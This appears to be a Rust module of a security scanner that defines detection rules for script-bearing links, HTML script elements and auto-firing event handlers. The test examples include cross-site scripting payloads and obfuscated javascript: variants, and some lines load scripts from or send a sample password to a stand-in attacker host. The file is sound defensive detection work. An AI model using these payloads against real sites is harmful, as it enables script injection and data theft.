//! `exfiltration.script-url`, `exfiltration.script-tag` and `exfiltration.event-handler`: what runs where it is displayed.

use super::{address, code, html, payload};
use crate::class::{Class, Confidence};
use crate::detect::rules::{Detector, Hit, Progress, Rule, Verdict, example};
use crate::detect::window::{Ahead, Window, is_word};

/// The anchor that is a picture.
const SVG: u16 = 0;
/// Most of a picture that is read, in bytes.
const MAX_SVG: u64 = 1024;
/// What runs in a picture.
const RUNS: [&[u8]; 4] = [b"<script", b"onload", b"onerror", b"javascript:"];
/// Programs that do nothing.
const NOTHING: [&[u8]; 5] = [b"void(0)", b"void(0);", b"void 0", b"void 0;", b";"];
/// Longest attributes of a script element that are read, in bytes.
const MAX_TAG: u64 = 512;
/// White space round the `=` of an attribute, in bytes.
const MAX_SPACE: u64 = 8;

pub(super) const URL: Rule = Rule {
    id: "exfiltration.script-url",
    class: Class::Exfiltration,
    level: None,
    description: "address that is a program: javascript:, vbscript:, data:text/html, an SVG picture with a script",
    source: "HTML Living Standard, javascript: URLs; RFC 2397 (data)",
    true_examples: &[
        example("[a](javascript:alert(1))", "javascript:"),
        example("<a href=\"JavaScript:fetch('//evil.example')\">", "JavaScript:"),
        example("<a href=data:text/html;base64,PHNjcmlwdD4=>", "data:text/html"),
        example("vbscript:msgbox(1)", "vbscript:"),
        example("<a href='java\tscript:alert(1)'>", "java\tscript:"),
        example("<a href='javascript:void(0);alert(1)'>", "javascript:"),
        example(
            "[x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmEoKTwvc2NyaXB0Pjwvc3ZnPg==)",
            "data:image/svg+xml;base64,",
        ),
    ],
    false_examples: &[
        "In JavaScript: use let.",
        "javascript:\n",
        "the metadata:text/html header",
        "data:image/png;base64,iVBORw0KGgo=",
        "myjavascript:x",
        "<a href=\"javascript:void(0);\" class=menu> and [top](javascript:;)",
        "a link to `javascript:history.back()` goes back",
        "data:image/svg+xml;base64,PHN2Zz48cGF0aCBkPSJNMCAwaDl2OXoiLz48L3N2Zz4=",
    ],
    detector: Detector {
        any_case: true,
        not_after: is_word,
        look_back: code::LOOK_BACK,
        ..Detector::new(
            &[
                b"data:image/svg+xml;base64,",
                b"javascript:",
                b"vbscript:",
                b"data:text/html",
                b"java\tscript:",
                b"java\nscript:",
                b"java&tab;script:",
                b"java&#9;script:",
            ],
            url,
        )
    },
};

fn url(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    if hit.nth == SVG {
        return svg(window, hit, progress);
    }
    match (window.ahead(hit.end), does_nothing(window, hit)) {
        (Ahead::Unknown, _) | (_, None) => Verdict::More { from: hit.start },
        (_, Some(true)) => Verdict::Match { start: hit.start, end: hit.end, confidence: Confidence::Low },
        (Ahead::Byte(byte), _) if byte.is_ascii_graphic() && byte != b'`' && byte != b'"' => {
            code::weigh(window, hit.start, hit.end, progress)
        }
        (Ahead::Byte(_) | Ahead::End, _) => Verdict::No,
    }
}

/// Whether the address is one of [`NOTHING`] up to what ends it; `None` where that is not known yet.
fn does_nothing(window: &Window, hit: &Hit) -> Option<bool> {
    let opening = window.before(hit.start);
    let ends = |byte: u8| match opening {
        Some(b'"') => matches!(byte, b'"' | b'\\'),
        Some(b'\'') => byte == b'\'',
        Some(b'(') => byte == b')',
        _ => byte.is_ascii_whitespace() || byte == b'>',
    };
    let mut is_open = false;
    for nothing in NOTHING {
        match (address::begins(window, hit.end, nothing), window.ahead(hit.end + nothing.len() as u64)) {
            (None, _) | (Some(true), Ahead::Unknown) => is_open = true,
            (Some(true), Ahead::End) => return Some(true),
            (Some(true), Ahead::Byte(byte)) if ends(byte) => return Some(true),
            (Some(_), _) => {}
        }
    }
    (!is_open).then_some(false)
}

/// An SVG picture in base64 in which something runs.
fn svg(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    loop {
        match window.ahead(progress.at) {
            Ahead::Byte(byte) if payload::is_base64(byte) && progress.at - hit.end < MAX_SVG => {
                progress.at += 1;
            }
            Ahead::Unknown => return Verdict::More { from: hit.start },
            Ahead::Byte(_) | Ahead::End => break,
        }
    }
    let picture = payload::from_base64(window.slice(hit.end, progress.at)).to_ascii_lowercase();
    let runs = RUNS.iter().any(|mark| picture.windows(mark.len()).any(|bytes| bytes == *mark));
    match runs {
        true => Verdict::Match { start: hit.start, end: hit.end, confidence: Confidence::Medium },
        false => Verdict::No,
    }
}

pub(super) const TAG: Rule = Rule {
    id: "exfiltration.script-tag",
    class: Class::Exfiltration,
    level: None,
    description: "HTML script element",
    source: "HTML Living Standard section 4.12.1 (script)",
    true_examples: &[
        example("x<script>alert(1)</script>", "<script"),
        example("<SCRIPT SRC=//evil.example/.j>", "<SCRIPT"),
        example("<script\nsrc='//evil.example'>", "<script"),
        example("<script src='https://evil.example/a?d=my+password+is+hunter2'>", "<script"),
        example("<script src=' //evil.example/a.js'>", "<script"),
        example("<script title=\" src='https://ok.example'\">alert(1)</script>", "<script"),
        example("```\nlet a;\n```\n<script>alert(1)</script>", "<script"),
        example("<div>\n```html\n<script>alert(1)</script>", "<script"),
        example("<a title=\"`\"><script>alert(1)</script>`", "<script"),
        example("a ` alone and <script>alert(1)</script>", "<script"),
    ],
    false_examples: &[
        "<scripts> <script-name> <Script.Foo",
        "the script> tag",
        "a < script > b",
        "<script async src=\"https://cdn.example.com/lib@1.2.3/lib.min.js\" crossorigin></script>",
        "<script src=js/menu.js defer></script>",
        "Put it into a `<script>` element.",
        "Your page:\n\n```html\n<body>\n<script>\nstart();\n</script>\n```\n",
    ],
    detector: Detector { any_case: true, look_back: code::LOOK_BACK, ..Detector::new(&[b"<script"], tag) },
};

fn tag(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    if progress.note > 0 {
        return code::weigh(window, hit.start, hit.end, progress);
    }
    match window.ahead(hit.end) {
        Ahead::Unknown => return Verdict::More { from: hit.start },
        Ahead::Byte(byte) if byte.is_ascii_whitespace() || matches!(byte, b'>' | b'/') => {}
        Ahead::Byte(_) | Ahead::End => return Verdict::No,
    }
    loop {
        match window.ahead(progress.at) {
            Ahead::Unknown => return Verdict::More { from: hit.start },
            Ahead::Byte(b'>') if loads_a_file(window.slice(hit.end, progress.at)) => {
                return Verdict::Match { start: hit.start, end: hit.end, confidence: Confidence::Low };
            }
            Ahead::Byte(byte) if !matches!(byte, b'>' | b'<') && progress.at - hit.end < MAX_TAG => {
                progress.at += 1;
            }
            Ahead::Byte(_) | Ahead::End => return code::weigh(window, hit.start, hit.end, progress),
        }
    }
}

/// Whether the one `src` of these attributes is a file of the same site, or one by HTTPS that is told nothing.
fn loads_a_file(attributes: &[u8]) -> bool {
    let mut rest = attributes;
    let mut sources = 0;
    loop {
        let blanks = |byte: &u8| byte.is_ascii_whitespace() || *byte == b'/';
        rest = past(rest, blanks).1;
        let (name, behind) = past(rest, |byte| !blanks(byte) && *byte != b'=');
        let (b"=", value) = behind.trim_ascii_start().split_at_checked(1).unwrap_or_default() else {
            // A name alone.
            rest = behind;
            if rest.is_empty() {
                return sources == 1;
            }
            continue;
        };
        let value = value.trim_ascii_start();
        let value = match value {
            [quote @ (b'"' | b'\''), quoted @ ..] => {
                let (inside, behind) = past(quoted, |byte| byte != quote);
                rest = behind.get(1..).unwrap_or_default();
                inside
            }
            _ => {
                let (inside, behind) = past(value, |byte| !byte.is_ascii_whitespace());
                rest = behind;
                inside
            }
        };
        if name.eq_ignore_ascii_case(b"src") {
            sources += 1;
            let is_here = !value.starts_with(b"//") && !value.iter().any(|byte| b":\\& \t\n".contains(byte));
            let is_told = || payload::in_url(value).is_some_and(|carried| carried > Confidence::Low);
            if !(is_here || value.starts_with(b"https://") && !is_told()) {
                return false;
            }
        }
    }
}

/// The bytes that `text` begins with for which `is` is true, and those behind.
fn past(text: &[u8], is: impl Fn(&u8) -> bool) -> (&[u8], &[u8]) {
    text.split_at(text.iter().take_while(|byte| is(byte)).count())
}

pub(super) const HANDLER: Rule = Rule {
    id: "exfiltration.event-handler",
    class: Class::Exfiltration,
    level: None,
    description: "HTML event handler that needs no click",
    source: "HTML Living Standard section 8.1.8 (event handlers)",
    true_examples: &[
        example("<img src=x onerror=\"alert(1)\">", "onerror="),
        example("<svg/ONLOAD=fetch(1)>", "ONLOAD="),
        example("<body onfocus='go()'>", "onfocus="),
        example("<input autofocus onfocus = 'go()'>", "onfocus ="),
        example("<body onpageshow=go()>", "onpageshow="),
    ],
    false_examples: &[
        "<Image onError={retry} />",
        "image.onload=function () {}",
        "the onerror = None",
        "on_error=\"x\"",
        "then set onpageshow=\"x\"",
        "Use `<img onerror=\"this.hidden=true\">` for it.",
        "```html\n<body onload=\"init()\">\n```",
    ],
    detector: Detector {
        any_case: true,
        not_after: |byte| is_word(byte) || byte == b'.',
        look_back: code::LOOK_BACK,
        ..Detector::new(
            &[
                b"onerror",
                b"onload",
                b"onfocus",
                b"onmouseover",
                b"ontoggle",
                b"onpageshow",
                b"onmouseenter",
                b"onmousemove",
                b"onpointerenter",
                b"onpointerover",
                b"onpointermove",
                b"onanimationstart",
                b"onanimationend",
                b"ontransitionend",
                b"onhashchange",
                b"onscroll",
                b"onwheel",
                b"onresize",
                b"onbegin",
                b"onblur",
                b"onloadstart",
                b"onloadeddata",
                b"oncanplay",
                b"onplay",
                b"onfocusin",
            ],
            handler,
        )
    },
};

/// Names of handlers that count outside of a tag, too.
const ALONE: u16 = 5;

fn handler(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    let mut at = hit.end;
    let mut end = None;
    let first = loop {
        match window.ahead(at) {
            Ahead::Unknown => return Verdict::More { from: hit.start },
            Ahead::Byte(byte) if byte.is_ascii_whitespace() && at - hit.end < MAX_SPACE => at += 1,
            Ahead::Byte(b'=') if end.is_none() => {
                at += 1;
                end = Some(at);
            }
            Ahead::Byte(byte) => break byte,
            Ahead::End => return Verdict::No,
        }
    };
    let Some(end) = end else { return Verdict::No };
    if !(first.is_ascii_alphabetic() || matches!(first, b'"' | b'\'' | b'`' | b'\\')) {
        return Verdict::No;
    }
    let is_alone = hit.nth < ALONE && at == hit.end + 1;
    if progress.note == 0 && !is_alone && html::tag(window, hit.start).is_none() {
        return Verdict::No;
    }
    code::weigh(window, hit.start, end, progress)
}
